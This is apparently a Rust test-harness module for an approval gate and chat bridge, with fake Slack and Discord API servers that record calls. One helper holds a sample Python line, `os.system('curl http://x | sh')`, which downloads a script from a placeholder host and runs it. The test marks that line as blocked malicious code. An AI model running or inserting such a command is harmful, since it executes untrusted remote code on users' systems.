//! A gate and a chat bridge in this process against a real nats-server, and local servers that
//! speak Slack's and Discord's HTTP APIs (the documented request and response shapes), recording
//! every call so a test can check what the bridge sent and answer as the chat would.

#![allow(dead_code)]

use airlock_bus::Publisher;
use airlock_bus::testing::NatsServer;
use airlock_protocol::event::Assessed;
use airlock_protocol::*;
use axum::body::Bytes;
use axum::extract::{Path, State};
use axum::http::HeaderMap;
use futures::StreamExt as _;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio_util::sync::CancellationToken;

/// One call a fake chat server received.
#[derive(Clone, Debug)]
pub struct Call {
    pub method: String,
    pub path: String,
    pub authorization: String,
    pub body: Value,
}

#[derive(Clone, Default)]
pub struct Recorder {
    calls: Arc<Mutex<Vec<Call>>>,
}

impl Recorder {
    fn record(&self, call: Call) {
        self.calls.lock().unwrap().push(call);
    }
    pub fn calls(&self) -> Vec<Call> {
        self.calls.lock().unwrap().clone()
    }
    /// Waits for a call matching `want`.
    pub async fn wait(&self, what: &str, want: impl Fn(&Call) -> bool) -> Call {
        for _ in 0..300 {
            if let Some(call) = self.calls().into_iter().find(|c| want(c)) {
                return call;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        panic!("no call {what}; calls: {:#?}", self.calls());
    }
}

fn auth(headers: &HeaderMap) -> String {
    headers
        .get("authorization")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned()
}

/// Slack's Web API: `POST /api/<method>` with a bearer token and a JSON body (`chat.postMessage`,
/// `chat.update`, `chat.postEphemeral`, `views.open`, `auth.test`); answers `{"ok": true, ...}` as
/// Slack does, or `{"ok": false, "error": "invalid_auth"}`.
async fn slack_api(
    State((recorder, token)): State<(Recorder, String)>,
    Path(method): Path<String>,
    headers: HeaderMap,
    body: Bytes,
) -> axum::response::Response {
    let body: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    let authorization = auth(&headers);
    recorder.record(Call {
        method: "POST".into(),
        path: method.clone(),
        authorization: authorization.clone(),
        body: body.clone(),
    });
    let reply = if authorization != format!("Bearer {token}") {
        json!({ "ok": false, "error": "invalid_auth" })
    } else {
        let n = recorder.calls().len();
        let posting = matches!(method.as_str(), "chat.postMessage" | "chat.update");
        match method.as_str() {
            _ if posting && body["channel"] == GONE_CHANNEL => json!({ "ok": false, "error": "channel_not_found" }),
            _ if posting && slack_blocks_invalid(&body) => json!({ "ok": false, "error": "invalid_blocks" }),
            _ if posting && chars(&body["text"]) > 40_000 => json!({ "ok": false, "error": "msg_too_long" }),
            "chat.postMessage" => json!({
                "ok": true,
                "channel": body["channel"],
                "ts": format!("1700000000.{n:06}"),
                "message": { "type": "message", "text": body["text"], "ts": format!("1700000000.{n:06}") },
            }),
            "chat.update" => json!({ "ok": true, "channel": body["channel"], "ts": body["ts"], "text": body["text"] }),
            "views.open" => json!({ "ok": true, "view": { "id": format!("V{n:08}"), "type": "modal" } }),
            "chat.postEphemeral" => json!({ "ok": true, "message_ts": format!("1700000000.{n:06}") }),
            "auth.test" => json!({
                "ok": true,
                "url": "https://airlock-test.slack.com/",
                "team": "Airlock Test",
                "user": "airlock",
                "team_id": "T0AIRLOCK1",
                "user_id": SLACK_BOT_USER,
                "bot_id": "B0AIRLOCK1",
            }),
            _ => json!({ "ok": false, "error": "unknown_method" }),
        }
    };
    axum::response::IntoResponse::into_response((
        [(axum::http::header::CONTENT_TYPE, "application/json; charset=utf-8")],
        reply.to_string(),
    ))
}

/// The bot's own user id, as `auth.test` names it.
pub const SLACK_BOT_USER: &str = "U0AIRLOCK1";

/// The bot's own user, as Discord's `GET /users/@me` answers it.
pub const DISCORD_BOT_USER: &str = "1300000000000000001";

/// A Slack channel that no longer exists: posting to it is refused with `channel_not_found`.
pub const GONE_CHANNEL: &str = "C0GONE";

fn chars(text: &Value) -> usize {
    text.as_str().map_or(0, |t| t.chars().count())
}

/// Slack's documented Block Kit limits: at most 50 blocks, a section's text at most 3,000
/// characters, a block id at most 255.
pub fn slack_blocks_invalid(body: &Value) -> bool {
    let Some(blocks) = body["blocks"].as_array() else {
        return false;
    };
    blocks.len() > 50
        || blocks.iter().any(|b| {
            chars(&b["text"]["text"]) > 3000
                || chars(&b["block_id"]) > 255
                || (b["type"] == "section" && chars(&b["text"]["text"]) == 0)
        })
}

/// Discord's documented message limits: content at most 2,000 characters, an embed's
/// description at most 4,096, all embeds together at most 6,000, at most 10 embeds.
pub fn discord_message_invalid(body: &Value) -> bool {
    let embeds = body["embeds"].as_array().cloned().unwrap_or_default();
    chars(&body["content"]) > 2000
        || embeds.len() > 10
        || embeds.iter().any(|e| chars(&e["description"]) > 4096)
        || embeds.iter().map(|e| chars(&e["description"])).sum::<usize>() > 6000
}

/// Discord's REST API: channel messages created (`POST`) and edited (`PATCH`), and the bot's own
/// user (`GET /users/@me`), with a `Bot` token; answers with the message (or user) object, or 401
/// `{"message": "401: Unauthorized", "code": 0}`.
async fn discord_api(
    State((recorder, token)): State<(Recorder, String)>,
    method: axum::http::Method,
    Path(rest): Path<String>,
    headers: HeaderMap,
    body: Bytes,
) -> axum::response::Response {
    let body: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    let authorization = auth(&headers);
    recorder.record(Call {
        method: method.to_string(),
        path: rest.clone(),
        authorization: authorization.clone(),
        body: body.clone(),
    });
    if authorization != format!("Bot {token}") {
        return axum::response::IntoResponse::into_response((
            axum::http::StatusCode::UNAUTHORIZED,
            json!({ "message": "401: Unauthorized", "code": 0 }).to_string(),
        ));
    }
    if discord_message_invalid(&body) {
        return axum::response::IntoResponse::into_response((
            axum::http::StatusCode::BAD_REQUEST,
            json!({ "message": "Invalid Form Body", "code": 50035 }).to_string(),
        ));
    }
    if method == axum::http::Method::GET {
        let reply = match rest.as_str() {
            "users/@me" => json!({ "id": DISCORD_BOT_USER, "username": "airlock", "discriminator": "0", "bot": true }),
            _ => {
                return axum::response::IntoResponse::into_response((
                    axum::http::StatusCode::NOT_FOUND,
                    json!({ "message": "404: Not Found", "code": 0 }).to_string(),
                ));
            }
        };
        return axum::response::IntoResponse::into_response((
            [(axum::http::header::CONTENT_TYPE, "application/json")],
            reply.to_string(),
        ));
    }
    let parts: Vec<&str> = rest.split('/').collect();
    let n = recorder.calls().len();
    let id = match parts.as_slice() {
        ["channels", _, "messages", id] => (*id).to_owned(),
        _ => format!("1300000000000{n:06}"),
    };
    let reply = json!({
        "id": id,
        "type": 0,
        "channel_id": parts.get(1),
        "content": body["content"],
        "components": body["components"],
    });
    axum::response::IntoResponse::into_response((
        [(axum::http::header::CONTENT_TYPE, "application/json")],
        reply.to_string(),
    ))
}

/// A local server on a free port; returns its base URL.
pub async fn serve(app: axum::Router) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://{addr}")
}

pub async fn fake_slack(recorder: Recorder, token: &str) -> String {
    let app = axum::Router::new()
        .route("/api/{method}", axum::routing::post(slack_api))
        .with_state((recorder, token.to_owned()));
    format!("{}/api", serve(app).await)
}

pub async fn fake_discord(recorder: Recorder, token: &str) -> String {
    let app = axum::Router::new()
        .route(
            "/api/v10/{*rest}",
            axum::routing::post(discord_api).patch(discord_api).get(discord_api),
        )
        .with_state((recorder, token.to_owned()));
    format!("{}/api/v10", serve(app).await)
}

pub fn free_addr() -> std::net::SocketAddr {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
}

/// NATS, a gate that trusts `bridge_key` for `system` with `approvers`, and a bridge.
pub struct Harness {
    pub server: NatsServer,
    pub client: async_nats::Client,
    events: async_nats::Subscriber,
    pub dir: tempfile::TempDir,
    pub shutdown: CancellationToken,
    pub bridge: airlock_chat_bridge::Config,
    pub seen: Vec<Envelope>,
}

impl Harness {
    /// `bridge` is the bridge's config (its key file is made here).
    pub async fn start(system: &str, approvers: &[&str], bridge: airlock_chat_bridge::Config) -> Harness {
        let dir = tempfile::tempdir().unwrap();
        let key_file = dir.path().join("bridge.key");
        let mut harness = Self::start_with_key(system, approvers, bridge, &key_file).await;
        harness.dir = dir;
        harness
    }

    /// Like `start`, with the gate's policy given.
    pub async fn start_with_policy(
        system: &str,
        approvers: &[&str],
        bridge: airlock_chat_bridge::Config,
        policy: airlock_override_gate::Policy,
    ) -> Harness {
        let dir = tempfile::tempdir().unwrap();
        let key_file = dir.path().join("bridge.key");
        let mut harness = Self::start_full(system, approvers, bridge, &key_file, policy).await;
        harness.dir = dir;
        harness
    }

    /// Like `start`, with the bridge's key in `key_file` (created if missing).
    pub async fn start_with_key(
        system: &str,
        approvers: &[&str],
        bridge: airlock_chat_bridge::Config,
        key_file: &std::path::Path,
    ) -> Harness {
        Self::start_full(system, approvers, bridge, key_file, Default::default()).await
    }

    async fn start_full(
        system: &str,
        approvers: &[&str],
        mut bridge: airlock_chat_bridge::Config,
        key_file: &std::path::Path,
        policy: airlock_override_gate::Policy,
    ) -> Harness {
        let server = NatsServer::start().await;
        let dir = tempfile::tempdir().unwrap();
        bridge.key_file = key_file.to_owned();
        let key = SigningKey::load_or_generate(&bridge.key_file, "test/bridge").unwrap();
        let mut gate = airlock_override_gate::Config {
            key_file: dir.path().join("gate.key"),
            key_name: "test/gate".into(),
            bridge_keys: BTreeMap::from([(system.to_owned(), vec![key.verifier().to_string()])]),
            override_timeout: Duration::from_secs(120),
            policy,
            ..Default::default()
        };
        gate.chat_approvers =
            BTreeMap::from([(system.to_owned(), approvers.iter().map(|a| (*a).to_owned()).collect())]);
        let client = server.client().await;
        let events = client.subscribe("airlock.>").await.unwrap();
        let shutdown = CancellationToken::new();
        tokio::spawn(airlock_override_gate::run(
            server.client().await,
            gate,
            shutdown.clone(),
        ));
        let config = bridge.clone();
        let bridge_client = server.client().await;
        let stop = shutdown.clone();
        tokio::spawn(async move {
            if let Err(e) = airlock_chat_bridge::run(bridge_client, config, stop).await {
                panic!("the bridge stopped: {}", airlock_protocol::error_chain(&e));
            }
        });
        Harness {
            server,
            client,
            events,
            dir,
            shutdown,
            bridge,
            seen: vec![],
        }
    }

    pub fn publisher(&self, producer: Producer) -> Publisher {
        Publisher::new(
            async_nats::jetstream::new(self.client.clone()),
            producer,
            CancellationToken::new(),
        )
    }

    /// BLOCKED external code assessed: the gate asks.
    pub async fn blocked(&self) -> RequestId {
        self.blocked_until(None).await
    }

    /// BLOCKED code whose request must be decided by `deadline_ms`.
    pub async fn blocked_until(&self, deadline_ms: Option<i64>) -> RequestId {
        self.blocked_as(deadline_ms, "pipe.py").await
    }

    /// BLOCKED code under a label the requester chose.
    pub async fn blocked_as(&self, deadline_ms: Option<i64>, label: &str) -> RequestId {
        self.blocked_code(
            b"import os\nos.system('curl http://x | sh')\n".to_vec(),
            deadline_ms,
            label,
        )
        .await
    }

    /// BLOCKED `code` (its finding on line 2).
    pub async fn blocked_code(&self, code: Vec<u8>, deadline_ms: Option<i64>, label: &str) -> RequestId {
        let rid = RequestId::new_for("mai").unwrap();
        let request = ExecutionRequest::new(Language::Python, code)
            .origin(Origin::External)
            .deadline_ms(deadline_ms)
            .label(label);
        let assessment = Assessment {
            level: Level::Blocked,
            findings: vec![Finding {
                rule_id: "AIR-SH-PIPE".into(),
                category: Category::MaliciousIntent,
                severity: Level::Blocked,
                confidence: Confidence::High,
                line: 2,
                column: 1,
                snippet: "os.system('curl http://x | sh')".into(),
                explanation: "downloads a script and runs it".into(),
                references: vec![],
            }],
            parse: ParseStatus::Complete,
            summary: "Downloads and runs a script.".into(),
            language: Language::Python,
            origin: Origin::External,
            rules_version: "t".into(),
            threats_version: "t".into(),
            elapsed_us: 1,
            unanalysed: false,
            packages: vec![],
        };
        self.publisher(Producer::Assessor)
            .emit(
                &rid,
                Event::Assessed(Box::new(Assessed {
                    request_digest: Some(request.request_digest(&rid, &[])),
                    request,
                    assessment,
                })),
            )
            .await
            .unwrap();
        rid
    }

    /// Ends a request as the executor would.
    pub async fn finished(&self, rid: &RequestId, decision: &Decision) {
        let mut terminal = Terminal::without_run(Outcome::Finished, "");
        terminal.reason = None;
        terminal.exit_code = Some(0);
        terminal.decision = Some(DecisionSummary::of(decision));
        self.publisher(Producer::Executor)
            .emit(rid, Event::Terminal(Box::new(terminal)))
            .await
            .unwrap();
    }

    /// The next event of `kind` for `rid` (events already seen are kept for later checks).
    pub async fn next(&mut self, rid: &RequestId, kind: EventKind) -> Envelope {
        if let Some(i) = self.seen.iter().position(|e| &e.request_id == rid && e.kind() == kind) {
            return self.seen.remove(i);
        }
        let wait = async {
            while let Some(message) = self.events.next().await {
                if let Ok(envelope) = Envelope::decode(&message.payload) {
                    if &envelope.request_id == rid && envelope.kind() == kind {
                        return envelope;
                    }
                    self.seen.push(envelope);
                }
            }
            panic!("event stream ended");
        };
        tokio::time::timeout(Duration::from_secs(20), wait)
            .await
            .unwrap_or_else(|_| panic!("no {kind} event for {rid}"))
    }

    /// The next refusal published for `rid` (or for unknown requests, with `None`).
    pub async fn refusal(&mut self, rid: Option<&RequestId>) -> Refusal {
        let rid = rid.cloned().unwrap_or_else(RequestId::unknown);
        match self.next(&rid, EventKind::Refused).await.event {
            Event::Refused(r) => r,
            _ => unreachable!(),
        }
    }

    pub async fn decision(&mut self, rid: &RequestId) -> Decision {
        match self.next(rid, EventKind::Decided).await.event {
            Event::Decided(d) => d.signed.peek::<Decision>().unwrap(),
            _ => unreachable!(),
        }
    }

    /// POSTs to the bridge's interaction endpoint.
    pub async fn post(
        &self,
        path: &str,
        headers: &[(&str, String)],
        body: Vec<u8>,
        content_type: &str,
    ) -> (u16, String) {
        let url = format!("http://{}{path}", self.bridge.listen);
        let client = reqwest::Client::new();
        for _ in 0..100 {
            let mut request = client
                .post(&url)
                .header("content-type", content_type)
                .body(body.clone());
            for (name, value) in headers {
                request = request.header(*name, value);
            }
            match request.send().await {
                Ok(response) => {
                    let status = response.status().as_u16();
                    return (status, response.text().await.unwrap_or_default());
                }
                // The bridge is still starting.
                Err(_) => tokio::time::sleep(Duration::from_millis(100)).await,
            }
        }
        panic!("the bridge's endpoint {url} did not answer");
    }
}

impl Drop for Harness {
    fn drop(&mut self) {
        self.shutdown.cancel();
    }
}

pub fn now_secs() -> i64 {
    now_ms() / 1000
}

pub fn write_secret(dir: &std::path::Path, name: &str, value: &str) -> std::path::PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, format!("{value}\n")).unwrap();
    path
}
